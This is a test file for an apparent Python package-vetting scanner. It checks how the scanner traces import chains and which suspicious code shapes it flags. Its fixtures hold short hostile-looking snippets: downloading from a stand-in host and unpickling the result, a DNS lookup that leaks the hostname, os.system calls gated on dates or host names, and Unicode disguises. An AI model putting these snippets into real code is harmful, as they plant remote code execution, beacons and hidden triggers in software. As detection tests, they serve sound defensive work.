"""What source comes to where it stands: chains through packages, triggers, disguises."""

# ruff: noqa: E501 - source inside source reads best as it is written

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.samples.dists import sdist, wheel
from tests.samples.vetting import judged, report_on

from weighmaster.knowledge.chains.chains import Chains
from weighmaster.knowledge.packages.packages import packages_of
from weighmaster.knowledge.source.source_gate import may_matter
from weighmaster.knowledge.source.sources import Reading
from weighmaster.model.fact import Artifact, Shared, Use
from weighmaster.model.report import Report
from weighmaster.model.repository import Repository
from weighmaster.model.where import Where

_WHEEL = "kit-1.0-py3-none-any.whl"
_ACT = "import os\nos.system('true')\n"


def _said(files: dict[str, str], **more: str) -> Report:
    return report_on(wheel("kit", "1.0", files, **more), _WHEEL)  # type: ignore[arg-type]


def _rules(report: Report) -> set[str]:
    return {finding.rule.id for finding in report.findings}


def _uses(source: str) -> list[Use]:
    reading = Reading(Where.file("m.py"), lambda: None)
    reading.read(source)
    return [fact for fact in reading.facts() if isinstance(fact, Use)]


@pytest.mark.parametrize(
    ("files", "chain"),
    [
        ({"kit/__init__.py": _ACT}, "import kit runs kit/__init__.py,"),
        ({"kit/__init__.py": "from . import a\n", "kit/a.py": _ACT}, "kit/__init__.py -> kit/a.py,"),
        ({"kit/__init__.py": "import kit.a\n", "kit/a.py": _ACT}, "kit/__init__.py -> kit/a.py,"),
        (
            {
                "kit/__init__.py": "",
                "kit/a/__init__.py": "from ..b.c import d\n",
                "kit/b/c.py": _ACT,
                "x.py": "import kit.a\n",
            },
            "import x runs x.py -> kit/a/__init__.py -> kit/b/c.py,",
        ),
        ({"kit/__init__.py": "def f():\n    import kit.a\nf()\n", "kit/a.py": _ACT}, "kit/__init__.py -> kit/a.py,"),
        (
            {"kit/__init__.py": "import importlib\nimportlib.import_module('.a', __package__)\n", "kit/a.py": _ACT},
            "kit/__init__.py -> kit/a.py,",
        ),
    ],
)
def test_the_way_to_what_acts_is_shown(files: dict[str, str], chain: str) -> None:
    said = [finding.message for finding in _said(files).findings if finding.rule.id == "acts-on-import"]
    assert len(said) == 1
    assert chain in said[0]


@pytest.mark.parametrize(
    "first",
    [
        "def f():\n    import kit.a\n",
        "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    from . import a\n",
        "if __name__ == '__main__':\n    from . import a\n",
        "",
    ],
)
def test_what_is_imported_only_when_asked_for_is_no_chain(first: str) -> None:
    report = _said({"kit/__init__.py": first, "kit/a.py": _ACT})
    assert "acts-on-import" not in _rules(report)
    assert "source-reaches-out-on-import" in _rules(report)


def test_what_belongs_to_no_package_is_judged_as_code_beside_a_model() -> None:
    report = report_on(wheel("kit", "1.0", {"kit/__init__.py": _ACT}).replace(b"METADATA", b"NOTADATA"), _WHEEL)
    assert "source-acts-on-import" in _rules(report)


def test_a_setup_that_reads_its_version_from_a_file_is_allowed() -> None:
    source = (
        "from setuptools import setup\nexec(open('kit/_version.py').read())\nsetup(name='kit', version=__version__)\n"
    )
    files = {"setup.py": source, "kit/__init__.py": "", "kit/_version.py": "__version__ = '1.0'\n"}
    report = report_on(sdist("kit", "1.0", files), "kit-1.0.tar.gz")
    assert not {rule for rule in _rules(report) if rule.startswith(("acts-", "source-", "remote-code"))}


@pytest.mark.parametrize(
    "source",
    [
        "import ctypes, os\nlib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), '_kit.so'))\n",
        "import sys\nclass F:\n    def find_spec(self, *a): pass\nsys.meta_path.append(F())\n",
        "def make(names):\n    exec('class C: pass', {})\nmake([])\n",
        "import subprocess\n\n\ndef commit():\n    return subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n",
        "import socket\n\n\ndef port():\n    s = socket.socket()\n    s.bind(('', 0))\n    return s\n\n\nPORT = port()\n",
        "import os\n\nif os.environ.get('KIT_DEBUG') == 'yes':\n    import logging\n    logging.basicConfig()\n",
        "import time\n\nif time.time() - 5 > 10:\n    import os\n    os.system\n",
        "def clean(text):\n    if '\\u200b\\u200b' in text:\n        text = text.replace('\\u200b', '')\n    return text\n",
        "name = '\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627'\n\u0394x = 1\n\u03c3_max = 2\nfamily = '\U0001f468\u200d\U0001f469'\n",
        "# \u043e\u0431\u044b\u0447\u043d\u044b\u0439 \u043a\u043e\u043c\u043c\u0435\u043d\u0442\u0430\u0440\u0438\u0439 pytorch\u043e\u0432\nimport os\n",
    ],
)
def test_what_libraries_do_is_allowed(source: str) -> None:
    report = _said({"kit/__init__.py": source})
    assert judged(report) == "allow", [finding.message for finding in report.findings]


@pytest.mark.parametrize(
    ("source", "shape"),
    [
        (
            "import os\ndef f():\n    if os.getenv('S') == 'on':\n        return 'b.safetensors'\n",
            "waits-for-a-trigger",
        ),
        (
            "import os\ns = os.environ['S']\ndef f(m):\n    if s == 'on':\n        m.load_state_dict(m.b)\n",
            "waits-for-a-trigger",
        ),
        (
            "import datetime, os\nif datetime.date.today() > datetime.date(2027, 1, 1):\n    os.system('x')\n",
            "waits-for-a-trigger",
        ),
        (
            "import platform, os\ndef f():\n    if platform.node() != 'b1':\n        return\n    os.system('x')\n",
            "waits-for-a-trigger",
        ),
        (
            "def f(m, p):\n    if p.startswith('\\u200b\\u200c'):\n        return m.other(p)\n    return m(p)\n",
            "waits-for-a-trigger",
        ),
        ("import pickle, requests\npickle.loads(requests.get('http://a.example').content)\n", "downloads-and-loads"),
        ("import socket\nsocket.gethostbyname(socket.gethostname() + '.a.example')\n", "tells-who-runs-it"),
        ("x = 'a\u202eb'\nimport os\n", "reorders-its-text"),
        ("x = '" + "\U000e0041" * 9 + "'\nimport os\n", "holds-unseen-letters"),
        ("def \u0430dmin(): pass\n", "imitates-letters"),
    ],
)
def test_a_shape_is_told_and_the_gate_lets_it_through(source: str, shape: str) -> None:
    assert shape in {use.name for use in _uses(source) if not use.module}
    assert may_matter(source)


_NAMES = st.sampled_from(["kit", "kit.a", "kit.b", "kit.b.c", "other"])


def _whole(files: dict[str, str]) -> Repository:
    report_items = _items(files)
    artifacts = tuple(item for item in report_items if isinstance(item, Artifact))
    facts = tuple(item for item in report_items if isinstance(item, Shared))
    return Repository(where=Where.file(_WHEEL), folder=False, artifacts=artifacts, facts=facts)


def _items(files: dict[str, str]) -> list[object]:
    from weighmaster import shipped
    from weighmaster.engine.scan import scan_bytes
    from weighmaster.reading.budget import Limits

    return list(scan_bytes(wheel("kit", "1.0", files), _WHEEL, shipped.registry(), Limits()))


@settings(max_examples=25, deadline=None)
@given(st.dictionaries(_NAMES, st.lists(_NAMES, max_size=3), max_size=5))
def test_chains_are_what_an_interpreter_would_import(imports: dict[str, list[str]]) -> None:
    """Follow imports by hand, as the interpreter does: packages around a module first, each module once."""
    paths = {"kit": "kit/__init__.py", "kit.a": "kit/a.py", "kit.b": "kit/b/__init__.py", "kit.b.c": "kit/b/c.py",
             "other": "other.py"}  # fmt: skip
    source = {name: "".join(f"import {each}\n" for each in imports.get(name, ())) for name in paths}
    reached: set[str] = set()

    def bring(name: str) -> None:
        steps = name.split(".")
        for count in range(1, len(steps) + 1):
            module = ".".join(steps[:count])
            if module not in reached:
                reached.add(module)
                for each in imports.get(module, ()):
                    bring(each)

    bring("kit")
    bring("other")
    package = packages_of(_whole({paths[name]: text for name, text in source.items()}))[0]
    found = {path.rpartition("!")[2] for path in Chains(package).ways}
    assert found == {paths[name] for name in reached}
